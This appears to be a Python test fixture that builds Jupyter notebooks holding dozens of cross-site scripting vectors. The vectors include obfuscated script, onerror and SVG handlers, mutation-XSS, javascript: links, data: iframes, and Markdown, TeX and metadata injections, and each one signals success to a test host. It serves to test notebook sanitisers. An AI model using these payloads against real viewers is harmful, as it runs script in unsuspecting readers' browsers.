"""Ways in which something that a learner wrote might run, or fetch, in the browser of whoever reads it.

Each leaves a mark when it works: its name in the page's `__ran`, or a request to `RAN`. Some want to be clicked.
"""

from __future__ import annotations

import base64
import json
from dataclasses import dataclass, field
from typing import Any

from nbformat.notebooknode import NotebookNode, from_dict
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell

RAN = "http://ran.test/"
PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="


def js(name: str) -> str:
    """A script that leaves a vector's mark, without signs that mean something in HTML, in Markdown or in an address."""
    code = f"try{{top.__ran=(top.__ran||'')+' {name} '}}catch(e){{}};new Image().src='{RAN}{name}';void(0)"
    return f"eval(String.fromCharCode({','.join(str(ord(sign)) for sign in code)}))"


def script(name: str) -> str:
    """A script element that leaves a vector's mark."""
    return f"<script>{js(name)}</script>"


def data_page(name: str) -> str:
    """The address of a page that leaves a vector's mark."""
    return f"data:text/html;base64,{base64.b64encode(script(name).encode()).decode()}"


@dataclass(frozen=True)
class Vector:
    """`content` says how a cell holds it: a Markdown cell's text, or what a code cell displays, by MIME type."""

    name: str
    content: Any
    alone: bool = False  # it changes the page for all others
    control: bool = True  # whether it works on an unguarded page here, where nothing comes from the network
    policy: bool = True  # whether a policy alone would stop it
    metadata: dict = field(default_factory=dict)  # of the output
    whole: dict = field(default_factory=dict)  # what the notebook's metadata hold

    @property
    def innocent(self) -> str:
        """A word that stands beside it and has to be seen."""
        return f"innocent-{self.name}"


def html(name: str, page: str, **facts: Any) -> Vector:
    """HTML that a cell displays."""
    return Vector(name, {"text/html": f"<p>innocent-{name}</p>{page}"}, **facts)


def markdown(name: str, text: str, **facts: Any) -> Vector:
    """A Markdown cell."""
    return Vector(name, f"innocent-{name}\n\n{text}\n", **facts)


def shown(name: str, mime: str, data: Any, **facts: Any) -> Vector:
    """Another form of rich output; its innocent word is its plain text or stands in it."""
    return Vector(name, {mime: data, "text/plain": f"innocent-{name}"}, **facts)


def _svg(inside: str, attributes: str = "") -> str:
    return f'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" {attributes}>{inside}</svg>'


VECTORS = [
    html("script", script("script")),
    html("script-src", f"<script src={RAN}script-src></script>"),
    html("module", f"<script type=module>{js('module')}</script>"),
    html("img-onerror", f"<img src=x: onerror={js('img-onerror')}>"),
    html("img-remote", f"<img src={RAN}img-remote srcset='{RAN}img-remote 2x'>"),
    html("svg-onload", _svg("", f"onload={js('svg-onload')}")),
    html("svg-script", _svg(f"<script>{js('svg-script')}</script>")),
    html("svg-animate", _svg(f"<rect><animate onbegin={js('svg-animate')} attributeName=x dur=1s /></rect>")),
    html("svg-foreign", _svg(f"<foreignObject><img src=x: onerror={js('svg-foreign')}></foreignObject>")),
    html("svg-image", _svg(f"<image href='{RAN}svg-image' width=9 height=9 />")),
    html("svg-link", _svg(f"<a href='javascript:{js('svg-link')}'><text y=9>CLICK</text></a>")),
    html("link-javascript", f"<a href='javascript:{js('link-javascript')}'>CLICK</a>"),
    html("link-entities", f"<a href=' java&#x0A;script&colon;{js('link-entities')}'>CLICK</a>"),
    html("iframe-javascript", f"<iframe src='javascript:{js('iframe-javascript')}'></iframe>"),
    html("iframe-srcdoc", f'<iframe srcdoc="{script("iframe-srcdoc").replace("<", "&lt;")}"></iframe>'),
    html("iframe-data", f"<iframe src='{data_page('iframe-data')}'></iframe>"),
    html("object", f"<object data='{data_page('object')}'></object>"),
    html("embed", f"<embed src='{RAN}embed'>"),
    html("form", f"<form action='javascript:{js('form')}'><button>CLICK</button></form>"),
    html("formaction", f"<form><button formaction='javascript:{js('formaction')}'>CLICK</button></form>"),
    html("autofocus", f"<input autofocus onfocus={js('autofocus')}>"),
    html("details", f"<details open ontoggle={js('details')}>x</details>"),
    html("video", f"<video><source onerror={js('video')} src=x:></video>"),
    html("meta-refresh", f"<meta http-equiv=refresh content='0;url={RAN}meta-refresh'>", alone=True, policy=False),
    html("base", f"<base href='{RAN}base/'><img src=picture.png>", alone=True),
    html("link-stylesheet", f"<link rel=stylesheet href={RAN}link-stylesheet>"),
    html("link-preload", f"<link rel=preload as=image href={RAN}link-preload>"),
    html("style-import", f"<style>@import '{RAN}style-import';</style>"),
    html("style-url", f"<p style='background:url({RAN}style-url)'>x</p>"),
    html("template", f"<div><template shadowrootmode=open><img src=x: onerror={js('template')}></template></div>"),
    html("math", f"<math><style><!--</style><img title='--><img src=x: onerror={js('math')}>'></math>"),
    html(
        "math-mutation",
        f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x: onerror={js('math-mutation')}&gt;'>",
        alone=True,
        control=False,  # for cleaners that write what another parser reads otherwise
    ),
    html("noscript", f"<noscript><p title='</noscript><img src=x: onerror={js('noscript')}>'></noscript>"),
    html("comment", f"<!--><img src=x: onerror={js('comment')}>-->"),
    html("textarea", f"<textarea></textarea><img src=x: onerror={js('textarea')}>"),
    html("cut-off", f"<p><img src=x: onerror={js('cut-off')} <b>x</b>", alone=True),
    shown("javascript", "application/javascript", js("javascript")),
    shown("isolated", "text/html", script("isolated"), metadata={"text/html": {"isolated": True}}),
    shown("svg-output", "image/svg+xml", _svg(f"<script>{js('svg-output')}</script>"), control=False),
    shown("svg-lines", "text/html", ["<p>innocent-svg-lines</p>", "<img src=x: ", f"onerror={js('svg-lines')}>"]),
    shown("latex", "text/latex", rf"$\text{{<svg/onload={js('latex')}>}}$", control=False),
    shown(
        "markdown-output", "text/markdown", f"innocent-markdown-output\n\n<img src=x: onerror={js('markdown-output')}>"
    ),
    shown("png", "image/png", f'"><img src=x: onerror={js("png")}>', control=False),
    Vector(
        "widget",
        {"application/vnd.jupyter.widget-view+json": {"model_id": "w"}, "text/plain": "innocent-widget"},
        whole={"widgets": {"application/vnd.jupyter.widget-state+json": {"state": {"w": {"model_name": "HTMLModel"}}}}},
        control=False,  # it asks a distant server for the code that shows widgets
    ),
    Vector("title", {"text/plain": "innocent-title"}, whole={"title": f"</title>{script('title')}"}, control=False),
    markdown("markdown-html", f"<div onclick=x>{script('markdown-html')}</div>"),
    markdown("markdown-inline", f"text <img src=x: onerror={js('markdown-inline')}> text"),
    markdown("markdown-link", f"[CLICK](javascript:{js('markdown-link')})"),
    markdown("markdown-reference", f"[CLICK][r]\n\n[r]: javascript:{js('markdown-reference')}"),
    markdown("markdown-picture", f"![x]({RAN}markdown-picture)"),
    markdown("markdown-title", f"[CLICK](http://x.test/ '\" onmouseover={js('markdown-title')} x=\"')", control=False),
    markdown("markdown-fence", f'```"><img/src=x:/onerror={js("markdown-fence")}>\nx\n```', control=False),
    markdown("tex-text", rf"$\text{{<svg/onload={js('tex-text')}>}}$"),
    markdown("tex-href", rf"$\href{{javascript:{js('tex-href')}}}{{CLICK}}$", control=False),
    markdown(
        "tex-require",
        rf"$\require{{html}}\style{{background:url({RAN}tex-require)}}{{x}} \unicode{{x3C}}$",
        control=False,
    ),
    markdown("attachment", "![x](attachment:a.png)", control=False),
    Vector("raw-cell", ("raw", f"innocent-raw-cell {script('raw-cell')}"), control=False),
    Vector("stream", ("stream", f"innocent-stream {script('stream')}\x1b[31m{script('stream')}"), control=False),
    Vector("error", ("error", f"innocent-error {script('error')}\x1b[31m{script('error')}"), control=False),
    Vector("tags", ("tags", "innocent-tags"), control=False),
]
BY_NAME = {vector.name: vector for vector in VECTORS}
_TAG = '"><img src=x: onerror=top.__ran=String(top.__ran)+/ tags /.source>'  # a tag has no commas
_ATTACHED = {"a.png": {'text/html"><img src=x: onerror=' + js("attachment") + ">": PIXEL}}


def cell_of(vector: Vector, with_outputs: bool) -> NotebookNode:
    """The cell that a learner hands in; `with_outputs` as an unguarded grader would store it."""
    content = vector.content
    if isinstance(content, str):
        cell = new_markdown_cell(content)
        if "attachment:" in content:
            cell["attachments"] = from_dict(_ATTACHED)
        return cell
    if isinstance(content, dict):
        code = f"from IPython.display import display\ndisplay({content!r}, raw=True, metadata={vector.metadata!r})"
        outputs = [new_output("display_data", data=content, metadata=vector.metadata)]
    else:
        kind, text = content
        if kind == "raw":
            return new_raw_cell(text, metadata={"raw_mimetype": "text/html"})
        code = f"print({text!r})" if kind != "error" else f"raise ValueError({text!r})"
        outputs = [new_output("stream", text=text)]
        if kind == "error":
            outputs = [new_output("error", ename="ValueError", evalue=text, traceback=[text])]
    cell = new_code_cell(code)
    if content[0] == "tags" if isinstance(content, tuple) else False:
        cell.metadata["tags"] = [_TAG]
    if with_outputs:
        cell.outputs = outputs
    return cell


def notebook_of(vectors: list[Vector], with_outputs: bool = True) -> NotebookNode:
    """A notebook of these vectors."""
    made = new_notebook(cells=[cell_of(vector, with_outputs) for vector in vectors])
    for vector in vectors:
        made.metadata.update(json.loads(json.dumps(vector.whole)))
    return made
